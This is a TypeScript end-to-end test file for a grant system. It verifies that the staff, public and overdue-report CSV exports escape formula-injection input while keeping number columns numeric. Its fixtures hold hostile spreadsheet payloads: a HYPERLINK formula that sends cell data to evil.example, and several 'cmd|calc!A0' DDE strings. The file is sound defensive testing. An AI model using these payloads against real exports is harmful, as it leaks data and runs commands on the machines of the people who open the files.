import { example } from '../support/fixtures';
import { useLocalStack } from '../support/e2e';
import { awardThrough } from '../support/award';
import { readsAsFormula, readsAsNumber, spreadsheetCells } from '../support/spreadsheet';

/**
 * CSV formula injection, through HTTP as staff and the public download the files (`Accept:
 * text/csv`): titles applicants typed and a unit name staff registered that start like formulas
 * (= + - @ and a tab) reach the staff's results, the published results and the overdue reports as
 * text a spreadsheet does not run, while ranks, scores, amounts and days overdue stay numbers.
 */
const stack = useLocalStack();
const { api } = stack;
const CALL = 'gdast-2024';
const HOSTILE_UNIT = 'formula-society';
const UNIT_NAME = {
  zh: '=HYPERLINK("http://evil.example/?d="&A1,"广东省公式学会")',
  en: '+cmd|calc!A0 Formula Society',
};

interface Applied {
  token: string;
  applicationId: string;
  title: string;
}
const applied: Applied[] = [];

beforeAll(async () => {
  const staff = await api.staffToken();
  const registered = await api.request('PUT', `/units/${HOSTILE_UNIT}`, {
    token: staff,
    body: { name: UNIT_NAME, email: `office@${HOSTILE_UNIT}.example.org` },
  });
  expect(registered.status).toBe(200);
  const submissions: [string, string, string][] = [
    [HOSTILE_UNIT, 'lingnan-forum', '@SUM(1+1)*cmd|calc!A0 岭南科学论坛'],
    ['gd-chemistry-society', 'secretary-general-salon', '-2+3+cmd|calc!A0 秘书长沙龙'],
    ['gd-computer-society', 'party-publicity', '\t=1+1 党建宣传力提升'],
  ];
  for (const [unitId, typeId, title] of submissions) {
    const token = unitId === HOSTILE_UNIT ? await api.tokenFor(unitId) : await api.unitToken(unitId);
    const answer = await api.request('POST', `/calls/${CALL}/applications`, {
      token,
      body: { ...example(typeId), title },
    });
    expect(answer.status).toBe(201);
    applied.push({ token, applicationId: answer.body.applicationId, title });
  }
  await awardThrough(api, () => stack.emails(), applied);
}, 300_000);

/** A CSV download as a spreadsheet reads it: its header and its rows of cells. */
async function download(route: string, token?: string): Promise<{ header: string[]; rows: string[][] }> {
  const answer = await fetch(`${api.base}${route}`, {
    headers: { accept: 'text/csv', ...(token ? { authorization: `Bearer ${token}` } : {}) },
  });
  expect(answer.status).toBe(200);
  expect(answer.headers.get('content-type')).toMatch(/text\/csv/);
  const [header, ...rows] = spreadsheetCells(
    new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer()),
  );
  return { header, rows };
}

/** The cells of a column (found by its Chinese header) in every row. */
const columnOf = (file: { header: string[]; rows: string[][] }, zh: string) => {
  const index = file.header.findIndex((h) => h.startsWith(zh));
  expect(index).toBeGreaterThanOrEqual(0);
  return file.rows.map((row) => row[index]);
};

/** No cell runs as a formula; the typed text is all there behind its escape; the number columns are numbers. */
function expectSafe(file: { header: string[]; rows: string[][] }, numberColumns: string[]) {
  expect([file.header, ...file.rows].flat().filter(readsAsFormula)).toEqual([]);
  const typed = (cells: string[]) => cells.map((cell) => cell.replace(/^'/, ''));
  expect(typed(columnOf(file, '项目名称')).sort()).toEqual(applied.map((a) => a.title).sort());
  expect(typed(columnOf(file, '申报单位'))).toContain(UNIT_NAME.zh);
  for (const zh of numberColumns) expect(columnOf(file, zh).filter((cell) => !readsAsNumber(cell))).toEqual([]);
}

test('the staff results CSV', async () => {
  const file = await download(`/calls/${CALL}/results`, await api.staffToken());
  expect(file.rows).toHaveLength(applied.length);
  expectSafe(file, ['排名', '评审得分', '资助金额']);
});

test('the published results CSV, downloaded by anyone', async () => {
  expect((await api.request('POST', `/calls/${CALL}/results/publish`, { token: await api.staffToken() })).status).toBe(
    200,
  );
  const file = await download(`/results/${CALL}`);
  expect(file.rows).toHaveLength(applied.length);
  expectSafe(file, ['排名', '评审得分', '资助金额']);
});

test('the overdue reports CSV', async () => {
  const staff = await api.staffToken();
  await stack.setClock('2024-06-01T09:00:00+08:00');
  expect(
    (
      await api.request('POST', `/calls/${CALL}/reporting-round`, {
        token: staff,
        body: { summaryDueOn: '2024-07-15' },
      })
    ).status,
  ).toBe(202);
  await stack.setClock('2024-07-16T10:00:00+08:00');
  const file = await download(`/calls/${CALL}/obligations?state=overdue`, staff);
  expect(file.rows).toHaveLength(applied.length); // each project's summary report, a day overdue
  expectSafe(file, ['逾期天数']);
  expect(columnOf(file, '逾期天数')).toEqual(applied.map(() => '1'));
});
